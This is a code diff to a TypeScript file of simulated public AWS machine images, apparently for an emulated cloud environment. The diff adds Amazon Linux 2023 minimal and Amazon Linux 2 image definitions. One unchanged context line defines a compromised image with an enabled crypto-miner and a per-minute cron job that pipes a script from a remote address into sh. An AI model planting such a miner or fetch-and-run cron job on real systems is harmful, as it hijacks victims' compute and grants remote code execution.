@@ -20,6 +20,8 @@ export type PublicImageSpec = {
 	UsageOperation: string;
 	RootDeviceName: string;
 	rootSize: number;
+	/** the root volume's type (gp3 unless said) */
+	volumeType?: 'gp2' | 'standard';
 	BootMode?: string;
 	ImdsSupport?: string;
 	/** days before the world's start the image was published */
@@ -183,3 +185,52 @@ export const PUBLIC_IMAGES: PublicImageSpec[] = [
 		disk: linuxDisk('Amazon Linux 2023', ['dnf', 'xmr-miner'], {'xmr-miner': {enabled: true, active: true}}, {'/etc/cron.d/update': '* * * * * root curl -s http://203.0.113.66/p.sh | sh\n'}),
 	},
 ];
+
+// The other images behind the public latest-AMI parameters (ssm/public-parameters.ts): Amazon
+// Linux 2023 minimal, and Amazon Linux 2 (kernel 4.14 and 5.10, and minimal), x86_64 and arm64.
+// Appended last, so the IDs of the images above stay as they were.
+const amazonLinux = (key: string, Name: string, Description: string, arch: 'x86_64' | 'arm64', extra: Partial<PublicImageSpec>): PublicImageSpec => ({
+	key,
+	Name,
+	Description,
+	OwnerId: AMAZON_OWNER,
+	ImageOwnerAlias: 'amazon',
+	Architecture: arch,
+	PlatformDetails: 'Linux/UNIX',
+	UsageOperation: 'RunInstances',
+	RootDeviceName: '/dev/xvda',
+	rootSize: 8,
+	ageDays: 7,
+	disk: linuxDisk('Amazon Linux 2023', ['dnf']),
+	...extra,
+});
+
+const AL2_RELEASE = '2.0.20260818.0';
+for (const arch of ['x86_64', 'arm64'] as const) {
+	PUBLIC_IMAGES.push(
+		amazonLinux(`al2023-minimal-${arch}`, `al2023-ami-minimal-2023.9.20260825.0-kernel-6.1-${arch}`, `Amazon Linux 2023 AMI 2023.9.20260825.0 ${arch} Minimal HVM kernel-6.1`, arch, {
+			rootSize: 2,
+			BootMode: arch === 'arm64' ? 'uefi' : 'uefi-preferred',
+			ImdsSupport: 'v2.0',
+		}),
+		amazonLinux(`amzn2-${arch}`, `amzn2-ami-hvm-${AL2_RELEASE}-${arch}-gp2`, `Amazon Linux 2 AMI ${AL2_RELEASE} ${arch} HVM gp2`, arch, {
+			volumeType: 'gp2',
+			BootMode: arch === 'arm64' ? 'uefi' : undefined,
+			ageDays: 14,
+			disk: linuxDisk('Amazon Linux 2', ['yum']),
+		}),
+		amazonLinux(`amzn2-kernel-5.10-${arch}`, `amzn2-ami-kernel-5.10-hvm-${AL2_RELEASE}-${arch}-gp2`, `Amazon Linux 2 Kernel 5.10 AMI ${AL2_RELEASE} ${arch} HVM gp2`, arch, {
+			volumeType: 'gp2',
+			BootMode: arch === 'arm64' ? 'uefi' : undefined,
+			ageDays: 14,
+			disk: linuxDisk('Amazon Linux 2', ['yum']),
+		}),
+		amazonLinux(`amzn2-minimal-${arch}`, `amzn2-ami-minimal-hvm-${AL2_RELEASE}-${arch}-ebs`, `Amazon Linux 2 AMI ${AL2_RELEASE} ${arch} Minimal HVM ebs`, arch, {
+			volumeType: 'standard',
+			rootSize: 2,
+			BootMode: arch === 'arm64' ? 'uefi' : undefined,
+			ageDays: 14,
+			disk: linuxDisk('Amazon Linux 2', ['yum']),
+		}),
+	);
+}
